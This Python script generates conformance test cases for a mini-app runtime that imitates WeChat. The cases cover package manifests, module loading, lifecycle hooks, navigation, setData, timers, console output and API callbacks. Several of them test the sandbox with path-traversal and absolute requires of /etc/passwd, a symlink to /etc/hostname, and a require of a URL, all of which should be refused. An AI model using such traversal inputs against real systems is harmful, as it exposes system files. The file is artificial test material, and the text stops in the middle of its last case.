#!/usr/bin/env python3
"""Writes the conformance cases (Tests/Conformance/cases/<id>/) from the definitions below and
in wechat_cases.py (WeChat projects, modules, ES modules, components).

Deterministic: the same definitions always give the same files. Run it from anywhere:
`python3 Tests/Conformance/tools/generate.py`. It removes case folders it no longer defines.
"""
import hashlib, hmac, json, os, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from casekit import CASES, PRELUDE, DEFAULT_APP, case, tryapi, write

# ---------------------------------------------------------------- PK: packages and manifests
def manifest_error(id, title, covers, manifest_text, stderr, files=None):
    case(id, title, covers, raw_manifest=manifest_text, files=files, exit_code=2, exit_status=None, stderr_contains=stderr)

manifest_error('pk-missing-app-id', 'a manifest without app_id is refused naming the field', ['PK-1', 'PK-2'],
               '{"name": "x", "pages": ["pages/index/index"]}\n', ['app_id'])
manifest_error('pk-bad-app-id', 'an app_id that is not a reverse domain is refused', ['PK-1', 'PK-2'],
               '{"app_id": "not a domain", "name": "x", "pages": ["pages/index/index"]}\n', ['app_id'])
manifest_error('pk-missing-pages', 'a manifest without pages is refused', ['PK-1', 'PK-2'],
               '{"app_id": "org.conformance.x", "name": "x"}\n', ['pages'])
manifest_error('pk-empty-pages', 'an empty pages array is refused', ['PK-1', 'PK-2'],
               '{"app_id": "org.conformance.x", "name": "x", "pages": []}\n', ['pages'])
manifest_error('pk-missing-name', 'a manifest without name is refused', ['PK-1', 'PK-2'],
               '{"app_id": "org.conformance.x", "pages": ["pages/index/index"]}\n', ['name'])
manifest_error('pk-not-json', 'a manifest that is not JSON is refused with its line', ['PK-1', 'PK-2'],
               '{"app_id": "org.conformance.x",\n "name": \n}\n', ['manifest.json'])
manifest_error('pk-page-file-missing', 'a page whose .js file is missing is refused naming it', ['PK-3', 'PK-2'],
               '{"app_id": "org.conformance.x", "name": "x", "pages": ["pages/index/index", "pages/gone/gone"]}\n', ['pages/gone/gone'])
manifest_error('pk-unknown-permission', 'an unknown permission name is refused naming the field', ['PK-5', 'PK-2'],
               '{"app_id": "org.conformance.x", "name": "x", "pages": ["pages/index/index"], "req_permissions": [{"name": "camera.secret", "reason": "x"}]}\n',
               ['req_permissions[0].name'])
manifest_error('pk-bad-limits', 'a negative CPU limit is refused naming the field', ['PK-7', 'PK-2'],
               '{"app_id": "org.conformance.x", "name": "x", "pages": ["pages/index/index"], "limits": {"cpu_ms": -5}}\n', ['limits.cpu_ms'])
manifest_error('pk-page-escapes', 'a page route leaving the package is refused', ['PK-3', 'PK-2'],
               '{"app_id": "org.conformance.x", "name": "x", "pages": ["../outside/index"]}\n', ['pages[0]'])
case('pk-digest-mismatch', 'outside development mode a wrong digest is refused', ['PK-6'], dev=False,
     manifest={'digest': 'sha256:' + '0' * 64}, onload="L('ran')", exit_code=2, exit_status=None, stderr_contains=['digest'],
     console_absent=['ran'])
case('pk-w3c-layout', 'a package with manifest.json at its root runs', ['PK-4'], onload="L('PK-4 running')", console=['PK-4 running'])
case('pk-entry-page', 'the first page of pages is the entry page', ['PK-2', 'PK-4'], pages=['pages/b/b', 'pages/a/a'],
     files={'pages/a/a.js': "Page({ onLoad() { console.log('a loaded') } })\n", 'pages/b/b.js': "Page({ onLoad() { console.log('b loaded') } })\n"},
     console=['b loaded'], console_absent=['a loaded'])
case('pk-wechat-scope-alias', 'a WeChat scope is accepted as a permission alias', ['PK-8'], level='SHOULD',
     manifest={'req_permissions': [{'name': 'scope.userLocation', 'reason': 'r'}]}, args=['--grant', 'location'],
     asyncload=tryapi('loc', "mp.getLocation({})"), console=['loc ok getLocation:ok'])
case('pk-app-js-throws', 'app.js throwing is a launch failure: exit 1, crashed, virtual stack', ['PK-9', 'MD-6'],
     app="throw new Error('broken at start')\n", exit_code=1, exit_status='crashed',
     errors=[{'kind': 'launch', 'message_contains': 'broken at start'}], output_absent=['$CASE_DIR'])
case('pk-entry-page-throws', 'the entry page throwing at load is a launch failure', ['PK-9'],
     page="throw new Error('page broken')\n", exit_code=1, exit_status='crashed',
     errors=[{'kind': 'launch', 'message_contains': 'page broken'}])
case('pk-no-app-call', 'app.js that does not call App() runs with an empty App and a warning', ['PK-9'], level='SHOULD',
     app="// nothing\n", onload="L('page ran')", console=[{'contains': 'did not call App()'}, 'page ran'])
case('pk-symlink-refused', 'a package holding a symbolic link is refused', ['PK-10'], onload="L('ran')",
     extra={'symlinks': {'leak.js': '/etc/hostname'}}, exit_code=2, exit_status=None, stderr_contains=['leak.js'], console_absent=['ran'])

# ---------------------------------------------------------------- MD: modules
mod_files = {
    'lib/a.js': "exports.name = 'a'; exports.b = require('./b').name;\n",
    'lib/b.js': "module.exports = { name: 'b' };\n",
    'lib/data.json': '{"answer": 42}\n',
    'lib/dir/index.js': "module.exports = 'dir-index';\n",
}
case('md-relative-require', 'require resolves relative to the calling module', ['MD-1'], files=mod_files,
     onload="const a = require('../../lib/a'); L('MD-1 ' + a.name + ' ' + a.b)", console=['MD-1 a b'])
case('md-json-module', 'require of a .json file gives its data', ['MD-1'], files=mod_files,
     onload="L('json ' + require('../../lib/data.json').answer)", console=['json 42'])
case('md-dir-index', 'require of a folder loads its index.js', ['MD-1'], files=mod_files,
     onload="L('dir ' + require('../../lib/dir'))", console=['dir dir-index'])
case('md-explicit-extension', 'require with an explicit .js extension', ['MD-1'], files=mod_files,
     onload="L('ext ' + require('../../lib/b.js').name)", console=['ext b'])
case('md-cache', 'a module is evaluated once and cached', ['MD-3'],
     files={'lib/count.js': "globalThis.__n = (globalThis.__n || 0) + 1; module.exports = { n: globalThis.__n };\n"},
     onload="const x = require('../../lib/count'); const y = require('../../lib/count.js'); L('same ' + (x === y) + ' n ' + x.n)",
     console=['same true n 1'])
case('md-cycle', 'cycles follow Node: the second module sees the first one partially', ['MD-4'],
     files={'lib/p.js': "exports.early = 'p-early'; const q = require('./q'); exports.late = 'p-late'; exports.fromQ = q.seen;\n",
            'lib/q.js': "const p = require('./p'); exports.seen = String(p.early) + '/' + String(p.late);\n"},
     onload="const p = require('../../lib/p'); L('cycle ' + p.fromQ + ' ' + p.late)", console=['cycle p-early/undefined p-late'])
case('md-exports-shapes', 'module, exports and require are given to each module', ['MD-5'],
     files={'lib/m.js': "module.exports.kind = typeof module + ' ' + typeof exports + ' ' + typeof require;\n"},
     onload="L('shapes ' + require('../../lib/m').kind)", console=['shapes object object function'])
case('md-escape-dotdot', 'require with .. out of the package throws', ['MD-2'],
     onload="try { require('../../../../../etc/passwd'); L('escaped') } catch (e) { L('MD-2 threw ' + e.name) }",
     console=[{'prefix': 'MD-2 threw '}], console_absent=['escaped'])
case('md-escape-absolute', 'require of an absolute path throws', ['MD-2'],
     onload="try { require('/etc/passwd'); L('escaped') } catch (e) { L('MD-2 abs ' + e.message) }",
     console=[{'regex': '^MD-2 abs .*absolute'}], console_absent=['escaped'])
case('md-escape-url', 'require of a URL throws', ['MD-2'],
     onload="try { require('https://example.com/x.js'); L('escaped') } catch (e) { L('MD-2 url threw') }",
     console=['MD-2 url threw'], console_absent=['escaped'])
case('md-missing-module', 'require of a missing module throws naming it', ['MD-7'],
     onload="try { require('./nothing-here'); L('found') } catch (e) { L('missing: ' + e.message) }",
     console=[{'regex': '^missing: .*nothing-here'}])
case('md-virtual-url-stack', 'stack traces show miniapp://<app_id>/<path>:<line>', ['MD-6'],
     onload="try { null.x } catch (e) { L('stack: ' + e.stack) }",
     console=[{'contains': 'miniapp://org.conformance.md-virtual-url-stack/pages/index/index.js:'}], output_absent=['$CASE_DIR'])
case('md-virtual-url-module', 'a module\'s errors carry its own virtual URL', ['MD-6'],
     files={'lib/bad.js': "exports.f = function () { throw new Error('in module') };\n"},
     onload="try { require('../../lib/bad').f() } catch (e) { L('stack: ' + e.stack) }",
     console=[{'contains': 'miniapp://org.conformance.md-virtual-url-module/lib/bad.js:1'}], output_absent=['$CASE_DIR'])
case('md-module-scope', 'top-level variables of a module are private to it', ['MD-5'],
     files={'lib/s.js': "var secret = 1; module.exports = typeof secret;\n"},
     onload="require('../../lib/s'); L('scope ' + typeof secret)", console=['scope undefined'])

# ---------------------------------------------------------------- LC: lifecycle
lc_app = ("const log = (m) => console.log(m);\nApp({ onLaunch(o) { log('app.onLaunch') }, onShow(o) { log('app.onShow') }, onHide() { log('app.onHide') },\n"
          "  onError(m) { log('app.onError ' + String(m).split('\\n')[0]) } })\n")
lc_page = ("Page({ onLoad(q) { console.log('page.onLoad') }, onShow() { console.log('page.onShow') }, onReady() { console.log('page.onReady') },\n"
           "  onHide() { console.log('page.onHide') }, onUnload() { console.log('page.onUnload') } })\n")
case('lc-launch-order', 'launch runs App.onLaunch, App.onShow, then the entry page onLoad, onShow, onReady', ['LC-1'],
     app=lc_app, page=lc_page, console=['app.onLaunch', 'app.onShow', 'page.onLoad', 'page.onShow', 'page.onReady'], console_match='exact')
case('lc-launch-events', 'the lifecycle events come in WeChat order', ['LC-1'], app=lc_app, page=lc_page,
     hooks=['app.onLaunch', 'app.onShow', 'pages/index/index.onLoad', 'pages/index/index.onShow', 'pages/index/index.onReady'], hooks_match='exact')
case('lc-launch-options', 'App.onLaunch gets {path, query, scene, referrerInfo}', ['LC-2'],
     app="App({ onLaunch(o) { console.log('LC-2 ' + o.path + ' ' + JSON.stringify(o.query) + ' ' + typeof o.scene + ' ' + typeof o.referrerInfo) } })\n",
     args=['--query', 'a=1'], console=['LC-2 pages/index/index {"a":"1"} string object'])
case('lc-show-options', 'App.onShow at launch gets the same options', ['LC-2'],
     app="App({ onShow(o) { console.log('show ' + o.path + ' ' + o.query.k) } })\n", args=['--query', 'k=v'], console=['show pages/index/index v'])
case('lc-hide-show', 'hide runs page onHide then App.onHide; show runs App.onShow then page onShow', ['LC-3'],
     app=lc_app, page=lc_page, script="hide\nshow\n",
     console=['page.onReady', 'page.onHide', 'app.onHide', 'app.onShow', 'page.onShow'])
case('lc-hide-show-events', 'hide/show lifecycle events in order', ['LC-3'], app=lc_app, page=lc_page, script="hide\nshow\n",
     hooks=['pages/index/index.onReady', 'pages/index/index.onHide', 'app.onHide', 'app.onShow', 'pages/index/index.onShow'])
case('lc-hook-throws', 'an exception in a hook goes to App.onError and the app keeps running', ['LC-4'],
     app=lc_app, page="Page({ onLoad() { throw new Error('hook failed') }, ping() { console.log('still alive') } })\n", script="call - ping\n",
     console=[{'prefix': 'app.onError'}, 'still alive'], errors=[{'kind': 'exception', 'message_contains': 'hook failed'}])
case('lc-method-throws', 'an exception in a page method goes to App.onError', ['LC-4'], app=lc_app,
     page="Page({ boom() { throw new TypeError('bad tap') } })\n", script="call - boom\n",
     console=[{'regex': '^app.onError .*bad tap'}], errors=[{'kind': 'exception', 'message_contains': 'bad tap'}])
case('lc-unhandled-rejection', 'an unhandled rejection goes to App.onUnhandledRejection', ['LC-5'],
     onload="Promise.reject(new Error('nobody caught me'))",
     console=['onUnhandledRejection: nobody caught me'], errors=[{'kind': 'unhandled_rejection', 'message_contains': 'nobody caught me'}])
case('lc-unhandled-rejection-no-handler', 'without App.onUnhandledRejection the rejection is reported and the app runs on', ['LC-5'],
     app="App({})\n", page="Page({ onLoad() { Promise.reject(new Error('lost')) }, ping() { console.log('alive') } })\n", script="call - ping\n",
     console=['alive'], errors=[{'kind': 'unhandled_rejection', 'message_contains': 'lost'}])
case('lc-handled-late-not-reported', 'a rejection handled in the same task is not reported', ['LC-5'],
     onload="const p = Promise.reject(new Error('x')); p.catch(() => L('caught'))", console=['caught'], console_absent=['onUnhandledRejection'],
     error_kinds_absent=['unhandled_rejection'])
case('lc-getapp', 'getApp() returns the app with its globalData', ['LC-6'],
     app="App({ globalData: { user: 'ann' }, hello() { return 'hi' } })\n", onload="const a = getApp(); L('LC-6 ' + a.globalData.user + ' ' + a.hello())",
     console=['LC-6 ann hi'])
case('lc-getcurrentpages', 'getCurrentPages() lists the stack, top page last, with routes', ['LC-7'], pages=['pages/index/index', 'pages/b/b'],
     page="Page({ go() { mp.navigateTo({ url: '/pages/b/b' }) } })\n",
     files={'pages/b/b.js': "Page({ onLoad() { const s = getCurrentPages(); console.log('LC-7 ' + s.length + ' ' + s.map((p) => p.route).join(',')) } })\n"},
     script="call - go\n", console=['LC-7 2 pages/index/index,pages/b/b'])
case('lc-page-data', 'a page starts with a copy of its data', ['LC-8'],
     page="Page({ data: { n: 1, list: [1, 2] }, onLoad() { L('LC-8 ' + this.data.n + ' ' + this.data.list.length) } })\n", console=['LC-8 1 2'])
case('lc-page-method-call', 'the host calls page methods with a JSON argument', ['LC-9'],
     page="Page({ tap(arg) { L('LC-9 ' + JSON.stringify(arg)) } })\n", script='call pages/index/index tap {"x":1,"y":[true]}\n',
     console=['LC-9 {"x":1,"y":[true]}'])
case('lc-method-this', 'page methods run with this = the page instance', ['LC-9'],
     page="Page({ data: { v: 7 }, tap() { L('this ' + this.data.v + ' ' + this.route) } })\n", script="call - tap\n",
     console=['this 7 pages/index/index'])
case('lc-onerror-throws', 'App.onError that throws is reported, not recursed into', ['LC-4'],
     app="App({ onError() { throw new Error('handler broke') } })\n", page="Page({ onLoad() { throw new Error('first') }, ping() { console.log('alive') } })\n",
     script="call - ping\n", console=['alive'], errors=[{'kind': 'exception', 'message_contains': 'first'}, {'kind': 'exception', 'message_contains': 'handler broke'}])

# ---------------------------------------------------------------- NV: navigation
nav_pages = ['pages/index/index', 'pages/b/b', 'pages/c/c']
def navpage(name):
    return ("Page({ onLoad(q) { console.log('%s.onLoad ' + JSON.stringify(q)) }, onShow() { console.log('%s.onShow') }, onReady() { console.log('%s.onReady') },\n"
            "  onHide() { console.log('%s.onHide') }, onUnload() { console.log('%s.onUnload') } })\n") % ((name,) * 5)
nav_files = {'pages/b/b.js': navpage('b'), 'pages/c/c.js': navpage('c')}
idx_nav = lambda body: ("Page({ onLoad(q) { console.log('index.onLoad') }, onShow() { console.log('index.onShow') }, onHide() { console.log('index.onHide') },\n"
                        "  onUnload() { console.log('index.onUnload') }, go(arg) { " + body + " } })\n")
case('nv-navigate-order', 'navigateTo: old page onHide, new page onLoad/onShow/onReady, then success', ['NV-1'], pages=nav_pages, files=nav_files,
     page=idx_nav("mp.navigateTo({ url: '/pages/b/b?x=1', success: (r) => console.log(r.errMsg) })"), script="call - go\n",
     console=['index.onHide', 'b.onLoad {"x":"1"}', 'b.onShow', 'b.onReady', 'navigateTo:ok'])
case('nv-navigate-after-return', 'navigation runs in a task after the caller returns', ['NV-2'], pages=nav_pages, files=nav_files,
     page=idx_nav("mp.navigateTo({ url: '/pages/b/b' }); console.log('caller done')"), script="call - go\n",
     console=['caller done', 'index.onHide', 'b.onLoad {}'])
case('nv-query-decoding', 'the query string is split and decoded into onLoad\'s query', ['NV-3'], pages=nav_pages, files=nav_files,
     page=idx_nav("mp.navigateTo({ url: '/pages/b/b?name=a%20b&n=2&empty=' })"), script="call - go\n",
     console=['b.onLoad {"name":"a b","n":"2","empty":""}'])
case('nv-relative-url', 'a relative url resolves against the current page', ['NV-4'], pages=nav_pages, files=nav_files,
     page=idx_nav("mp.navigateTo({ url: '../c/c?r=1' })"), script="call - go\n", console=['c.onLoad {"r":"1"}'])
case('nv-back-order', 'navigateBack: top page onUnload, the page below onShow', ['NV-5'], pages=nav_pages, files=nav_files,
     page=idx_nav("mp.navigateTo({ url: '/pages/b/b' })"), script="call - go\nback\n",
     console=['b.onReady', 'b.onUnload', 'index.onShow'])
case('nv-back-api-delta', 'navigateBack({delta: 2}) unloads two pages', ['NV-5'], pages=nav_pages,
     files={'pages/b/b.js': "Page({ onLoad() { mp.navigateTo({ url: '/pages/c/c' }) }, onUnload() { console.log('b.onUnload') } })\n",
            'pages/c/c.js': "Page({ onReady() { mp.navigateBack({ delta: 2, success: (r) => console.log(r.errMsg + ' ' + getCurrentPages().length) }) }, onUnload() { console.log('c.onUnload') } })\n"},
     page=idx_nav("mp.navigateTo({ url: '/pages/b/b' })"), script="call - go\n",
     console=['c.onUnload', 'b.onUnload', 'index.onShow', 'navigateBack:ok 1'])
case('nv-back-at-first-page', 'navigateBack at the first page fails with 1007', ['NV-5', 'ER-7'],
     asyncload=tryapi('back', "mp.navigateBack({})"), console=['back 1007 navigateBack:fail cannot navigate back at first page'])
case('nv-redirect', 'redirectTo unloads the current page and keeps the depth', ['NV-6'], pages=nav_pages, files=nav_files,
     page=idx_nav("mp.redirectTo({ url: '/pages/b/b', success: () => console.log('depth ' + getCurrentPages().length) })"), script="call - go\n",
     console=['index.onUnload', 'b.onLoad {}', 'depth 1'])
case('nv-relaunch', 'reLaunch unloads every page and opens one', ['NV-7'], pages=nav_pages,
     files={'pages/b/b.js': "Page({ onReady() { mp.reLaunch({ url: '/pages/c/c', success: () => console.log('depth ' + getCurrentPages().length) }) }, onUnload() { console.log('b.onUnload') } })\n",
            'pages/c/c.js': navpage('c')},
     page=idx_nav("mp.navigateTo({ url: '/pages/b/b' })"), script="call - go\n",
     console=['b.onUnload', 'index.onUnload', 'c.onLoad {}', 'depth 1'])
case('nv-stack-limit', 'the stack holds at most 10 pages; the 11th navigateTo fails with 1005', ['NV-8', 'ER-5'], pages=['pages/index/index', 'pages/n/n'],
     files={'pages/n/n.js': ("Page({ onReady() { const d = getCurrentPages().length; if (d < 10) mp.navigateTo({ url: '/pages/n/n' }); "
                             "else mp.navigateTo({ url: '/pages/n/n' }).catch((e) => console.log('NV-8 depth ' + d + ' ' + e.errCode + ' ' + e.errMsg)) } })\n")},
     page="Page({ onReady() { mp.navigateTo({ url: '/pages/n/n' }) } })\n",
     console=[{'regex': '^NV-8 depth 10 1005 navigateTo:fail '}])
case('nv-unknown-page-api', 'navigateTo an unknown page fails with 1007', ['NV-9', 'ER-7'],
     asyncload=tryapi('nav', "mp.navigateTo({ url: '/pages/nope/nope' })"), console=['nav 1007 navigateTo:fail page "pages/nope/nope" is not found'])
case('nv-page-not-found-hook', 'the host opening an unknown page calls App.onPageNotFound', ['NV-9'],
     app="App({ onPageNotFound(r) { console.log('NV-9 not found ' + r.path) } })\n", script="navigate /pages/missing/missing?a=1\n",
     console=[{'regex': '^NV-9 not found /?pages/missing/missing'}])
case('nv-launch-query', 'the launch query reaches the entry page onLoad', ['NV-10'], args=['--query', 'a=1&b=two'],
     onload="L('NV-10 ' + Object.keys(query).sort().map((k) => k + '=' + query[k]).join('&'))", console=['NV-10 a=1&b=two'])
case('nv-bad-url-type', 'navigateTo with a non-string url fails with 1001', ['NV-1', 'ER-1'],
     asyncload=tryapi('nav', "mp.navigateTo({ url: 42 })"), console=[{'regex': '^nav 1001 navigateTo:fail invalid argument: url'}])
case('nv-host-navigate', 'the driver\'s navigate command opens a page with its query', ['NV-1', 'DR-1'], pages=nav_pages, files=nav_files,
     script="navigate /pages/c/c?z=9\n", console=['c.onLoad {"z":"9"}', 'c.onShow'])

# ---------------------------------------------------------------- PD: page data
case('pd-setdata-sync', 'setData updates this.data at once', ['PD-1'],
     page="Page({ data: { n: 1 }, onLoad() { this.setData({ n: 2 }); L('PD-1 ' + this.data.n) } })\n", console=['PD-1 2'])
case('pd-data-path', 'setData with a data path creates what is missing', ['PD-2'],
     page="Page({ data: {}, onLoad() { this.setData({ 'a.b[2].c': 'x' }); L('PD-2 ' + JSON.stringify(this.data.a)) } })\n",
     console=['PD-2 {"b":[null,null,{"c":"x"}]}'])
case('pd-data-path-existing', 'a data path changes only its leaf', ['PD-2'],
     page="Page({ data: { a: { b: [1, 2, 3], keep: true } }, onLoad() { this.setData({ 'a.b[1]': 20 }); L('PD-2 ' + JSON.stringify(this.data.a)) } })\n",
     console=['PD-2 {"b":[1,20,3],"keep":true}'])
case('pd-setdata-event', 'setData is reported to the host with the route', ['PD-3'],
     page="Page({ onLoad() { this.setData({ hello: 'world' }) } })\n",
     events=[{'type': 'setData', 'route': 'pages/index/index', 'data': {'hello': 'world'}}])
case('pd-setdata-callback', 'the setData callback runs after the update', ['PD-4'],
     page="Page({ data: { n: 0 }, onLoad() { this.setData({ n: 5 }, () => L('PD-4 cb ' + this.data.n)); L('PD-4 after') } })\n",
     console=['PD-4 after', 'PD-4 cb 5'])
case('pd-merge', 'setData merges: other keys stay', ['PD-1'],
     page="Page({ data: { a: 1, b: 2 }, onLoad() { this.setData({ b: 3 }); L('PD-1 ' + JSON.stringify(this.data)) } })\n",
     console=['PD-1 {"a":1,"b":3}'])
case('pd-data-command', 'the driver\'s data command returns the top page\'s data', ['PD-3', 'DR-2'],
     page="Page({ data: { v: 1 }, onLoad() { this.setData({ w: [1] }) } })\n", script="data\n",
     events=[{'type': 'reply', 'command': 'data', 'data': {'route': 'pages/index/index', 'data': {'v': 1, 'w': [1]}}}])

# ---------------------------------------------------------------- EL: event loop
case('el-microtask-before-timer', 'microtasks run before the next task (a 0 ms timer)', ['EL-1'],
     onload="setTimeout(() => L('timer'), 0); Promise.resolve().then(() => L('micro')); L('sync')",
     console=['sync', 'micro', 'timer'], console_match='exact')
case('el-queue-microtask-fifo', 'queueMicrotask and promise reactions run in FIFO order', ['EL-5'],
     onload="queueMicrotask(() => L('q1')); Promise.resolve().then(() => L('p1')); queueMicrotask(() => L('q2'))",
     console=['q1', 'p1', 'q2'], console_match='exact')
case('el-timer-order', 'timers fire by due time, equal times in creation order', ['EL-2'],
     onload="setTimeout(() => L('t30'), 30); setTimeout(() => L('t0a'), 0); setTimeout(() => L('t10'), 10); setTimeout(() => L('t0b'), 0)",
     console=['t0a', 't0b', 't10', 't30'], console_match='exact')
case('el-interval', 'setInterval repeats until cleared', ['EL-3'],
     onload="let n = 0; const id = setInterval(() => { n++; if (n === 3) { clearInterval(id); L('EL-3 ' + n) } }, 5)", console=['EL-3 3'], console_match='exact')
case('el-clear-timeout', 'clearTimeout cancels a timer', ['EL-4'],
     onload="const id = setTimeout(() => L('fired'), 5); clearTimeout(id); setTimeout(() => L('done'), 20)", console=['done'], console_match='exact')
case('el-timer-args', 'setTimeout passes extra arguments', ['EL-2'], onload="setTimeout((a, b) => L('args ' + a + b), 0, 'x', 'y')", console=['args xy'])
case('el-timer-string-refused', 'setTimeout with a code string throws TypeError', ['EL-9', 'SB-1'],
     onload="try { setTimeout('L(1)', 0); L('accepted') } catch (e) { L('EL-9 ' + e.name) }", console=['EL-9 TypeError'], console_absent=['accepted'])
case('el-reply-is-a-task', 'a Promise API never settles synchronously: its reply is a later task', ['EL-6', 'CC-2'],
     onload="mp.getStorageInfo().then(() => L('reply')); Promise.resolve().then(() => L('micro')); L('sync')",
     console=['sync', 'micro', 'reply'], console_match='exact')
case('el-idle-exit', 'the run ends when nothing is queued and no timer is pending', ['EL-7'],
     onload="setTimeout(() => L('last'), 50)", console=['last'])
case('el-timer-throws', 'a timer callback that throws goes to App.onError; later timers run', ['EL-8', 'LC-4'],
     onload="setTimeout(() => { throw new Error('tick failed') }, 0); setTimeout(() => L('next timer'), 5)",
     console=['onError: Error: tick failed', 'next timer'], errors=[{'kind': 'exception', 'message_contains': 'tick failed'}])
case('el-nested-microtasks', 'microtasks queued by microtasks run before the next task', ['EL-1'],
     onload="setTimeout(() => L('task'), 0); Promise.resolve().then(() => Promise.resolve().then(() => queueMicrotask(() => L('deep micro'))))",
     console=['deep micro', 'task'], console_match='exact')
case('el-interval-in-hidden', 'timers keep running while the app is hidden', ['EL-3'], level='SHOULD',
     page="Page({ onHide() { setTimeout(() => console.log('timer while hidden'), 5) } })\n", script="hide\nwait 50\n", console=['timer while hidden'])

# ---------------------------------------------------------------- CO: console
fmt = [('s', "'%s!', 'str'", 'str!'), ('d', "'%d', 42", '42'), ('i', "'%i', 3.9", '3'), ('f', "'%f', 1.5", '1.5'),
       ('o', "'%o', { a: 1 }", '{ a: 1 }'), ('O', "'%O', { b: [1] }", '{ b: [ 1 ] }'), ('j', "'%j', { c: 2 }", '{"c":2}'), ('pct', "'%d%%', 100", '100%')]
for name, argsjs, out in fmt:
    case('co-format-' + name, 'console formats %' + name, ['CO-2'], onload="console.log(" + argsjs + ")", console=[out], console_match='exact')
case('co-levels', 'each console level is reported with its level', ['CO-1'],
     onload="console.log('l'); console.info('i'); console.warn('w'); console.error('e'); console.debug('d')", console=['l', 'i', 'w', 'e', 'd'], console_match='exact')
case('co-join', 'extra arguments are joined with spaces', ['CO-3'], onload="console.log('a', 1, true, null, undefined, [1, 2])",
     console=['a 1 true null undefined [ 1, 2 ]'], console_match='exact')
case('co-hostile-tostring', 'console does not crash on an object whose toString throws', ['CO-3', 'SB-4'],
     onload="const o = { toString() { throw new Error('no') } }; try { console.log(o) } catch (e) { L('threw') } L('after')", console=['after'])
case('co-control-chars', 'control characters in console text do not break the JSON line protocol', ['CO-1'],
     onload="console.log('line1\\nline2\\u0007\"q\"')", console=['line1\nline2\u0007"q"'], console_match='exact')

# ---------------------------------------------------------------- CC: call convention
case('cc-callbacks-order', 'success then complete; the call returns undefined', ['CC-1'],
     onload="const r = mp.setStorage({ key: 'k', data: 1, success: (x) => L('success ' + x.errMsg), fail: () => L('fail'), complete: (x) => L('complete ' + x.errMsg) }); L('returned ' + typeof r)",
     console=['returned undefined', 'success setStorage:ok', 'complete setStorage:ok'], console_match='exact')
case('cc-fail-complete-order', 'fail then complete on an error', ['CC-1'],
     onload="mp.getStorage({ key: 'missing', success: () => L('success'), fail: (e) => L('fail ' + e.errCode), complete: (x) => L('complete ' + x.errCode) })",
     console=['fail 1007', 'complete 1007'], console_match='exact')
case('cc-complete-only', 'complete alone is enough to use callbacks (no Promise)', ['CC-1'],
     onload="const r = mp.getStorageInfo({ complete: (x) => L('complete ' + x.errMsg) }); L('returned ' + typeof r)",
     console=['returned undefined', 'complete getStorageInfo:ok'], console_match='exact')
case('cc-promise-resolve', 'without callbacks the API returns a Promise that resolves', ['CC-2'],
     onload="const p = mp.setStorage({ key: 'k', data: 2 }); L('promise ' + (p instanceof Promise)); p.then((r) => L('resolved ' + r.errMsg))",
     console=['promise true', 'resolved setStorage:ok'], console_match='exact')
case('cc-promise-reject', 'without callbacks an error rejects the Promise', ['CC-2', 'CC-4'],
     onload="mp.getStorage({ key: 'nope' }).then(() => L('resolved'), (e) => L('rejected ' + e.errCode + ' ' + e.errMsg))",
     console=['rejected 1007 getStorage:fail data not found for key "nope"'], console_match='exact')
case('cc-errmsg-ok', 'a result carries errMsg "<api>:ok"', ['CC-3'], asyncload="const r = await mp.getStorageInfo(); L(r.errMsg)", console=['getStorageInfo:ok'])
case('cc-errmsg-fail', 'an error carries errMsg "<api>:fail <reason>" and a numeric errCode', ['CC-4'],
     asyncload="try { await mp.removeStorage({ key: 5 }) } catch (e) { L(typeof e.errCode + ' ' + /^removeStorage:fail .+/.test(e.errMsg)) }",
     console=['number true'])
case('cc-sync-returns', 'a *Sync API returns its result', ['CC-5'], onload="mp.setStorageSync('a', { v: [1] }); L('CC-5 ' + JSON.stringify(mp.getStorageSync('a')))",
     console=['CC-5 {"v":[1]}'])
case('cc-sync-throws', 'a *Sync API throws an Error with errMsg and errCode', ['CC-5', 'CC-4'],
     onload="try { mp.setStorageSync('', 1) } catch (e) { L('CC-5 ' + (e instanceof Error) + ' ' + e.errCode + ' ' + e.errMsg.split(':fail')[0]) }",
     console=['CC-5 true 1001 setStorageSync'])
case('cc-callback-throws', 'a callback that throws goes to App.onError; complete still runs', ['CC-6'],
     onload="mp.getStorageInfo({ success: () => { throw new Error('cb broke') }, complete: () => L('complete ran') })",
     console=['onError: Error: cb broke', 'complete ran'], errors=[{'kind': 'exception', 'message_contains': 'cb broke'}])
case('cc-wx-alias', 'wx is the same object as mp', ['CC-7'], onload="L('CC-7 ' + (wx === mp))", console=['CC-7 true'])
case('cc-api-frozen', 'the API object is frozen: replacing an API has no effect', ['CC-7', 'SB-3'],
     onload="'use strict'; const orig = mp.getStorageSync; try { mp.getStorageSync = () => 'spy' } catch (e) { } L('CC-7 frozen ' + Object.isFrozen(mp) + ' ' + (mp.getStorageSync === orig))",
     console=['CC-7 frozen true true'])
case('cc-caniuse', 'canIUse answers for this host\'s APIs', ['CC-8'],
     onload="L('CC-8 ' + mp.canIUse('getLocation') + ' ' + mp.canIUse('noSuchApi') + ' ' + mp.canIUse('requestPayment.object.orderId'))",
     console=['CC-8 true false true'])
case('cc-reentry', 'a callback may call another API', ['CC-9'],
     onload="mp.setStorage({ key: 'r', data: 'v', success: () => mp.getStorage({ key: 'r', success: (x) => L('CC-9 ' + x.data) }) })", console=['CC-9 v'])
case('cc-options-not-object', 'an async API called with a non-object fails with 1001', ['CC-10', 'ER-1'],
     asyncload="try { await mp.getStorage('k'); L('ok') } catch (e) { L('CC-10 ' + e.errCode) }", console=['CC-10 1001'])
case('cc-result-data', 'getStorage resolves with {data, errMsg}', ['CC-3', 'ST-1'],
     asyncload="await mp.setStorage({ key: 'd', data: [1, 'two'] }); const r = await mp.getStorage({ key: 'd' }); L(JSON.stringify(r.data) + ' ' + r.errMsg)",
     console=['[1,"two"] getStorage:ok'])
case('cc-caniuse-unsupported', 'canIUse is false for unsupported names, components and unknown paths', ['CC-8'],
     onload="L('CC-8 ' + [mp.canIUse('addCard'), mp.canIUse('cloud'), mp.canIUse('button.open-type.contact'), mp.canIUse('getStorage.bogus'), mp.canIUse('getStorage.success.data'), mp.canIUse('env.USER_DATA_PATH')].join(' '))",
     console=['CC-8 false false false false true true'])
case('cc-unsupported-shapes', 'WeChat names MiniHost lacks exist and fail with 1008 in each shape', ['CC-12', 'ER-8'],
     asyncload="mp.addCard({ fail: (e) => L('async ' + e.errCode + ' ' + e.errMsg), complete: () => L('complete') }); "
               "await mp.chooseInvoice({}).catch((e) => L('promise ' + e.errCode + ' ' + e.errMsg)); "
               "try { mp.getExptInfoSync() } catch (e) { L('sync ' + (e instanceof Error) + ' ' + e.errCode + ' ' + e.errMsg) } "
               "mp.onAccelerometerChange(() => L('listener called')); "
